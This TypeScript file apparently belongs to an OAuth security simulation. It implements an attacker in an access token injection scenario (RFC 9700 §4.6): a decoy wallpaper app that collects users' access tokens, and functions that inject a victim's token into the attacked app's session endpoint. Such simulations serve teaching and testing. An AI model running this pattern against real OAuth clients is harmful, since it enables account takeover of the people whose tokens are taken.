/** The attacker: an honest-looking app of their own, and a sign-in of theirs into which they put somebody else’s token (RFC 9700 §4.6). */
import { base64url } from 'jose'
import { type HttpHandler, html, json, markup, parseForm, redirect } from '../../http/index.ts'
import { appPage } from '../../scenario-kit/parties/app-page.ts'
import { type PlainBrowser, redirectOf } from '../../scenario-kit/parties/plain-browser.ts'
import type { Page, ServerGlobals } from '../../simulation/index.ts'
import type { ClientConfig } from './client.ts'

/** URL origin of the attacker’s app. */
export const WALLPAPERS = 'https://wallpapers.example'

/** What the attacker holds. */
export interface Loot {
  /** Ada’s, issued to the attacker’s app. */
  received?: string
  /** Ada’s too, issued to the app that is attacked. */
  stolen?: string
  /** What the response had beside the access token: an ID token of the attacker’s own account, or a code. */
  own?: string
  /** What that app has answered. */
  seen?: string
}

/** The attacker’s app: it signs people in by an access token, which it keeps. */
export function createWallpapers(authorization_endpoint: string, loot: Loot): HttpHandler {
  return async ({ method, url, body }) => {
    // #region wallpapers
    switch (`${method} ${new URL(url).pathname}`) {
      case 'GET /': {
        const request = new URL(authorization_endpoint)
        request.search = new URLSearchParams({
          response_type: 'token',
          client_id: 'wallpapers',
          redirect_uri: `${WALLPAPERS}/callback`,
          scope: 'openid',
        }).toString()
        return redirect(request.href)
      }
      case 'GET /callback':
        return html(200, wallpapersPage())
      case 'POST /collect':
        loot.received = new Map(parseForm(body)).get('access_token') ?? ''
        return json(200, {})
      default:
        return html(404, 'Not Found')
    }
    // #endregion
  }
}

/** Its page’s script: takes the token to its server, as the page of any such app does. */
export async function collect({ url, globals }: Page): Promise<void> {
  // #region wallpapers
  const access_token = new URLSearchParams(url.hash.slice(1)).get('access_token')
  if (access_token === null) return
  await globals.fetch('/collect', { method: 'POST', body: new URLSearchParams({ access_token }) })
  // #endregion
}

/** What comes with the response that is the attacker’s own, whatever they do with the access token. */
function ownPart({ response_type }: ClientConfig): 'code' | 'id_token' {
  return response_type === 'code' ? 'code' : 'id_token'
}

/** Signs in to the attacked app with an account of the attacker’s own, and keeps the ID token of the response, or its code. */
export async function signInThemselves(
  globals: ServerGlobals,
  browser: PlainBrowser,
  config: ClientConfig,
  credentials: Readonly<Record<'username' | 'password', string>>,
): Promise<string> {
  // #region injected
  const { crypto } = globals
  const { authorization_endpoint, client_id, redirect_uri, scope } = config
  const part = ownPart(config)
  const { nonce, ...challenge } = JSON.parse((await browser.get(new URL('/random-value', redirect_uri).href)).body)
  const state = base64url.encode(crypto.getRandomValues(new Uint8Array(16)))
  const request = new URL(authorization_endpoint)
  request.search = new URLSearchParams({
    response_type: part === 'code' ? 'code' : 'id_token token',
    client_id,
    redirect_uri,
    scope,
    state,
    nonce,
    ...challenge,
  }).toString()
  const onward = redirectOf(await browser.submit(await browser.get(request.href), credentials))
  const answer = redirectOf(await browser.submit(await browser.get(onward.href), { decision: 'approve' }))
  return new URLSearchParams(part === 'code' ? answer.search : answer.hash.slice(1)).get(part) ?? ''
  // #endregion
}

/** Does what the attacked app’s page does with a response, but for one token: that is Ada’s. */
export async function inject(
  browser: PlainBrowser,
  config: ClientConfig,
  access_token = '',
  own = '',
): Promise<string> {
  // #region injected
  const response = new URLSearchParams({ access_token, [ownPart(config)]: own })
  return (await browser.post(new URL('/session', config.redirect_uri).href, response.toString())).body
  // #endregion
}

function wallpapersPage(): string {
  return appPage({
    app: 'Wallpaper Weekly',
    title: 'Welcome',
    body: markup`<p>Your first wallpaper comes on Monday.</p>`,
  })
}
